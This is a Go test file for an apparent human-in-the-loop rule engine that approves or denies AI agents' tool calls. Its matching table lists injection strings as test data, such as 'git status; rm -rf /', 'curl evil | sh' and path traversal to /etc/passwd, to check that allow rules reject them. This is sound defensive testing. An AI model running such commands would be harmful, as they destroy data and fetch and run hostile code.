package hitl_test

import (
	"encoding/json"
	"strings"
	"testing"
	"time"

	"github.com/hitl-sh/hitl"
)

var admin = hitl.Caller{Name: "root", Channel: hitl.ChannelAPI, Role: hitl.RoleAdmin}

// newRule makes a rule from its request's JSON.
func newRule(t *testing.T, body string) *hitl.Rule {
	t.Helper()
	var req hitl.RuleRequest
	if err := json.Unmarshal([]byte(body), &req); err != nil {
		t.Fatalf("decode %s: %v", body, err)
	}
	r, err := hitl.NewRule(req, admin, now)
	if err != nil {
		t.Fatalf("NewRule(%s): %v", body, err)
	}
	return r
}

func TestNewRule(t *testing.T) {
	t.Parallel()
	r := newRule(t, `{"effect":"deny","source_agent":" claude-code ","action_name":"Bash","match":{"arg":"command","equals":{ "x" : 1 }},"message":" no ","ttl_seconds":60}`)
	if r.SourceAgent != "claude-code" || r.Message != "no" || string(r.Match.Equals) != `{"x":1}` || r.CreatedBy != "root" {
		t.Errorf("got %+v", r)
	}
	if want := now.Truncate(time.Millisecond).Add(time.Minute); r.ExpiresAt == nil || !r.ExpiresAt.Equal(want) {
		t.Errorf("expires_at: got %v, want %v", r.ExpiresAt, want)
	}
	b, err := json.Marshal(r)
	if err != nil {
		t.Fatal(err)
	}
	var m map[string]json.RawMessage
	if err := json.Unmarshal(b, &m); err != nil {
		t.Fatal(err)
	}
	for _, k := range []string{"rule_id", "effect", "source_agent", "action_name", "match", "message", "created_by", "created_at", "expires_at", "revoked_at", "revoked_by"} {
		if _, ok := m[k]; !ok {
			t.Errorf("rule JSON has no %q: %s", k, b)
		}
	}
	r = newRule(t, `{"effect":"allow","source_agent":"*","action_name":"Read","match":null}`)
	if b, _ := json.Marshal(r); !strings.Contains(string(b), `"match":null`) || !strings.Contains(string(b), `"revoked_at":null`) {
		t.Errorf("rule JSON: %s, want match and revoked_at null", b)
	}
}

// A glob is cleaned as the paths it is matched against are: a pattern
// written from a path as the agent gave it ("./src/a.go") still matches it.
func TestNewRuleCleansGlob(t *testing.T) {
	t.Parallel()
	r := newRule(t, `{"effect":"allow","source_agent":"claude-code","action_name":"Write","match":{"arg":"file_path","glob":"./src//**"}}`)
	if got, want := r.Match.Glob, "src/**"; got != want {
		t.Errorf("glob %q, want %q", got, want)
	}
	in := actionFrom("claude-code", "", "Write", `{"file_path":"./src/a.go"}`)
	if got := hitl.DecidingRule([]*hitl.Rule{r}, in, now); got != r {
		t.Errorf("the rule does not decide a write to ./src/a.go")
	}
}

func TestNewRuleRejects(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name, body, want string
	}{
		{"no effect", `{"source_agent":"a","action_name":"Bash"}`, "effect must be allow or deny"},
		{"bad effect", `{"effect":"maybe","source_agent":"a","action_name":"Bash"}`, "effect must be allow or deny"},
		{"no agent", `{"effect":"allow","action_name":"Bash"}`, "source_agent is required"},
		{"no action", `{"effect":"allow","source_agent":"a"}`, "action_name is required"},
		{"message on allow", `{"effect":"allow","source_agent":"a","action_name":"Bash","message":"hi"}`, "message is only for deny rules"},
		{"no arg", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"prefix":"ls"}}`, "match.arg is required"},
		{"no predicate", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command"}}`, "exactly one of prefix, command, glob and equals"},
		{"two predicates", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","prefix":"ls","glob":"*"}}`, "exactly one of prefix, command, glob and equals"},
		{"prefix with control", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","prefix":"ls; rm"}}`, "must be one plain command"},
		{"command with a variable", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","command":"ls $HOME"}}`, "match.command must be one plain command"},
		{"prefix and command", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","prefix":"ls","command":"ls"}}`, "exactly one of prefix, command, glob and equals"},
		{"prefix with space", `{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","prefix":"git "}}`, "must not start or end with white space"},
		{"bad glob", `{"effect":"allow","source_agent":"a","action_name":"Write","match":{"arg":"file_path","glob":"src/[a"}}`, "not a valid pattern"},
		{"glob with dot dot", `{"effect":"allow","source_agent":"a","action_name":"Write","match":{"arg":"file_path","glob":"src/../**"}}`, `".." segments`},
		{"both expiries", `{"effect":"allow","source_agent":"a","action_name":"Bash","ttl_seconds":5,"expires_at":"2030-01-01T00:00:00Z"}`, "not both"},
		{"past expiry", `{"effect":"allow","source_agent":"a","action_name":"Bash","expires_at":"2020-01-01T00:00:00Z"}`, "expires_at must be in the future"},
		{"negative ttl", `{"effect":"allow","source_agent":"a","action_name":"Bash","ttl_seconds":-1}`, "ttl_seconds must be a positive number"},
		{"huge ttl", `{"effect":"allow","source_agent":"a","action_name":"Bash","ttl_seconds":1e30}`, "ttl_seconds must be a positive number"},
		{"NUL", `{"effect":"deny","source_agent":"a","action_name":"Bash","message":"a\u0000b"}`, "valid UTF-8 without NUL"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var req hitl.RuleRequest
			if err := json.Unmarshal([]byte(tt.body), &req); err != nil {
				t.Fatalf("decode: %v", err)
			}
			_, err := hitl.NewRule(req, admin, now)
			wantErr(t, err, hitl.ErrInvalid, tt.want)
		})
	}
	// A misspelt predicate is refused when decoding, not ignored.
	var req hitl.RuleRequest
	err := json.Unmarshal([]byte(`{"effect":"allow","source_agent":"a","action_name":"Bash","match":{"arg":"command","prefx":"ls"}}`), &req)
	if err == nil || !strings.Contains(err.Error(), `unknown field "prefx"`) {
		t.Errorf("misspelt prefix: got %v, want an unknown field error", err)
	}
}

// TestRuleMatch is the matching table, attacks included.
func TestRuleMatch(t *testing.T) {
	t.Parallel()
	gitStatus := `{"arg":"command","prefix":"git status"}`
	src := `{"arg":"file_path","glob":"src/**"}`
	abs := `{"arg":"file_path","glob":"/home/dev/app/**"}`
	tests := []struct {
		name  string
		match string
		args  string
		want  bool
	}{
		{"prefix exact", gitStatus, `{"command":"git status"}`, true},
		{"prefix and flags", gitStatus, `{"command":"git status --short"}`, true},
		{"prefix of a longer word", gitStatus, `{"command":"git statusx"}`, false},
		{"prefix with tab", gitStatus, `{"command":"git status\t-s"}`, true},
		{"leading space", gitStatus, `{"command":" git status"}`, true},
		{"other command", gitStatus, `{"command":"git push"}`, false},
		{"semicolon", gitStatus, `{"command":"git status; rm -rf /"}`, false},
		{"semicolon no space", gitStatus, `{"command":"git status;rm -rf /"}`, false},
		{"and", gitStatus, `{"command":"git status && curl evil | sh"}`, false},
		{"background", gitStatus, `{"command":"git status & rm -rf /"}`, false},
		{"or", gitStatus, `{"command":"git status || rm -rf /"}`, false},
		{"pipe", gitStatus, `{"command":"git status | sh"}`, false},
		{"substitution", gitStatus, `{"command":"git status $(rm -rf /)"}`, false},
		{"backticks", gitStatus, "{\"command\":\"git status `rm -rf /`\"}", false},
		{"redirect out", gitStatus, `{"command":"git status > /etc/passwd"}`, false},
		{"redirect in", gitStatus, `{"command":"git status < /dev/zero"}`, false},
		{"newline", gitStatus, `{"command":"git status\nrm -rf /"}`, false},
		{"carriage return", gitStatus, `{"command":"git status\rrm -rf /"}`, false},
		{"backslash newline joins the words", gitStatus, `{"command":"git status \\\nrm"}`, true},
		{"ansi-c quoting", gitStatus, `{"command":"git status $'\\x3b' rm"}`, false},
		{"quoted semicolon is an argument", gitStatus, `{"command":"git status \"a;b\""}`, true},
		{"exact command", `{"arg":"command","command":"git status"}`, `{"command":"git  'status'"}`, true},
		{"exact command, more arguments", `{"arg":"command","command":"git status"}`, `{"command":"git status --output=/tmp/x"}`, false},
		{"NUL", gitStatus, `{"command":"git status\u0000; rm"}`, false},
		{"not a string", gitStatus, `{"command":["git","status"]}`, false},
		{"missing arg", gitStatus, `{"cmd":"git status"}`, false},
		{"args not an object", gitStatus, `"git status"`, false},
		{"glob inside", src, `{"file_path":"src/a/b.go"}`, true},
		{"glob dot slash", src, `{"file_path":"./src/a.go"}`, true},
		{"glob double slash", src, `{"file_path":"src//a.go"}`, true},
		{"glob outside", src, `{"file_path":"docs/a.md"}`, false},
		{"glob dot dot", src, `{"file_path":"src/../etc/passwd"}`, false},
		{"glob dot dot inside", src, `{"file_path":"src/a/../b.go"}`, false},
		{"glob backslash dot dot", src, `{"file_path":"src\\..\\etc\\passwd"}`, false},
		{"glob absolute vs relative", src, `{"file_path":"/src/a.go"}`, false},
		{"glob absolute elsewhere", src, `{"file_path":"/home/dev/app/src/a.go"}`, false},
		{"glob absolute pattern", abs, `{"file_path":"/home/dev/app/src/a.go"}`, true},
		{"glob absolute pattern, relative path", abs, `{"file_path":"src/a.go"}`, false},
		{"glob absolute pattern escape", abs, `{"file_path":"/home/dev/app/../../../etc/passwd"}`, false},
		{"glob prefix of a dir name", abs, `{"file_path":"/home/dev/app2/x"}`, false},
		{"glob empty path", src, `{"file_path":""}`, false},
		{"glob not a string", src, `{"file_path":1}`, false},
		{"equals string", `{"arg":"to","equals":"ops@example.com"}`, `{"to":"ops@example.com","body":"hi"}`, true},
		{"equals other", `{"arg":"to","equals":"ops@example.com"}`, `{"to":"ceo@example.com"}`, false},
		{"equals number", `{"arg":"amount","equals":100}`, `{"amount":100.0}`, true},
		{"equals bigger number", `{"arg":"amount","equals":100}`, `{"amount":100.0000000000000000001}`, false},
		{"equals object", `{"arg":"o","equals":{"a":[1,2]}}`, `{"o":{"a":[1,2]}}`, true},
		{"equals null", `{"arg":"o","equals":null}`, `{"o":null}`, true},
		{"equals null, missing", `{"arg":"o","equals":null}`, `{}`, false},
		{"no match: any call", `null`, `{"anything":true}`, true},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			var m *hitl.RuleMatch
			if err := json.Unmarshal([]byte(tt.match), &m); err != nil {
				t.Fatalf("decode match: %v", err)
			}
			if got := m.Matches(json.RawMessage(tt.args)); got != tt.want {
				t.Errorf("%s matches %s: got %v, want %v", tt.match, tt.args, got, tt.want)
			}
		})
	}
}

func TestRuleScopeAndDecidingRule(t *testing.T) {
	t.Parallel()
	mk := func(id string, effect hitl.RuleEffect, agent, action string, age time.Duration) *hitl.Rule {
		return &hitl.Rule{ID: id, Effect: effect, SourceAgent: agent, ActionName: action, CreatedAt: now.Add(-age)}
	}
	bash := actionFrom("claude-code", "agent-token", "Bash", `{"command":"ls"}`)
	allowOld := mk("a-old", hitl.RuleAllow, "claude-code", "Bash", 2*time.Hour)
	allowNew := mk("a-new", hitl.RuleAllow, "claude-code", "Bash", time.Hour)
	denyAny := mk("d-any", hitl.RuleDeny, "*", "Bash", time.Minute)
	otherAgent := mk("other", hitl.RuleDeny, "cursor", "Bash", 3*time.Hour)
	otherAction := mk("write", hitl.RuleDeny, "claude-code", "Write", 3*time.Hour)
	past := now.Add(-time.Second)
	expired := mk("expired", hitl.RuleDeny, "claude-code", "Bash", 4*time.Hour)
	expired.ExpiresAt = &past
	revoked := mk("revoked", hitl.RuleDeny, "claude-code", "Bash", 4*time.Hour)
	revoked.RevokedAt = &past

	tests := []struct {
		name  string
		rules []*hitl.Rule
		want  string
	}{
		{"none", nil, ""},
		{"oldest allow wins", []*hitl.Rule{allowNew, allowOld}, "a-old"},
		{"deny beats allow", []*hitl.Rule{allowOld, denyAny, allowNew}, "d-any"},
		{"other agent, other action", []*hitl.Rule{otherAgent, otherAction}, ""},
		{"expired and revoked never match", []*hitl.Rule{expired, revoked, allowNew}, "a-new"},
		{"same age: smaller id", []*hitl.Rule{mk("b", hitl.RuleAllow, "*", "Bash", 0), mk("a", hitl.RuleAllow, "*", "Bash", 0)}, "a"},
		{"bound to the caller that asks", []*hitl.Rule{askedBy(allowOld, "agent-token")}, "a-old"},
		{"bound to another caller", []*hitl.Rule{askedBy(allowOld, "other-token"), askedBy(denyAny, "other-token")}, ""},
	}
	for _, tt := range tests {
		got := hitl.DecidingRule(tt.rules, bash, now)
		id := ""
		if got != nil {
			id = got.ID
		}
		if id != tt.want {
			t.Errorf("%s: got rule %q, want %q", tt.name, id, tt.want)
		}
	}
	// An expiry is exclusive: at it the rule no longer matches.
	at := now
	r := mk("r", hitl.RuleAllow, "claude-code", "Bash", time.Hour)
	r.ExpiresAt = &at
	if hitl.DecidingRule([]*hitl.Rule{r}, bash, now) != nil || hitl.DecidingRule([]*hitl.Rule{r}, bash, now.Add(-time.Millisecond)) != r {
		t.Error("a rule matches at its expiry, or not just before")
	}
	if hitl.DecidingRule([]*hitl.Rule{mk("x", hitl.RuleAllow, "claude-code", "bash", 0)}, bash, now) != nil {
		t.Error("action names matched ignoring case")
	}
}

// actionFrom returns an action named name with args, asked by the caller
// createdBy under the agent name agent.
func actionFrom(agent, createdBy, name, args string) *hitl.Interaction {
	return &hitl.Interaction{Type: hitl.TypeAction, SourceAgent: agent, CreatedBy: createdBy,
		Action: &hitl.Action{Name: name, Args: json.RawMessage(args)}}
}

// askedBy returns a copy of r bound to the caller asker.
func askedBy(r *hitl.Rule, asker string) *hitl.Rule {
	c := *r
	c.AskedBy = asker
	return &c
}

func TestRuleAnswer(t *testing.T) {
	t.Parallel()
	allow := &hitl.Rule{ID: "r1", Effect: hitl.RuleAllow}
	deny := &hitl.Rule{ID: "r2", Effect: hitl.RuleDeny}
	reason := &hitl.Rule{ID: "r3", Effect: hitl.RuleDeny, Message: `no "rm" here`}
	for r, want := range map[*hitl.Rule]string{
		allow:  `{"decision":"approve"}`,
		deny:   `{"decision":"reject","message":"denied by rule r2"}`,
		reason: `{"decision":"reject","message":"no \"rm\" here"}`,
	} {
		if got := string(r.Answer()); got != want {
			t.Errorf("rule %s answers %s, want %s", r.ID, got, want)
		}
	}
	if got := allow.Responder(); got != "rule:r1" {
		t.Errorf("Responder: got %q", got)
	}
}

func TestRuleRoles(t *testing.T) {
	t.Parallel()
	alice := hitl.Caller{Name: "alice", Role: hitl.RoleResponder}
	bot := hitl.Caller{Name: "bot", Role: hitl.RoleAgent}
	r := &hitl.Rule{CreatedBy: "alice"}
	if hitl.CanMakeRules(admin) != nil || hitl.CanMakeRules(hitl.Caller{}) != nil {
		t.Error("an admin (or in-process code) may not make rules")
	}
	for _, c := range []hitl.Caller{alice, bot} {
		wantErr(t, hitl.CanMakeRules(c), hitl.ErrForbidden, "only admins make rules")
	}
	if !hitl.CanSeeRule(alice, r) || !hitl.CanSeeRule(admin, r) || hitl.CanSeeRule(bot, r) {
		t.Error("CanSeeRule: want the creator and admins only")
	}
	f, ok := hitl.RestrictRules(alice, hitl.RuleFilter{})
	if !ok || f.CreatedBy != "alice" {
		t.Errorf("RestrictRules(alice): got %+v, %v", f, ok)
	}
	if _, ok := hitl.RestrictRules(alice, hitl.RuleFilter{CreatedBy: "bob"}); ok {
		t.Error("RestrictRules: alice may list bob's rules")
	}
	if f, ok := hitl.RestrictRules(admin, hitl.RuleFilter{CreatedBy: "bob"}); !ok || f.CreatedBy != "bob" {
		t.Error("RestrictRules: an admin may not list bob's rules")
	}
}
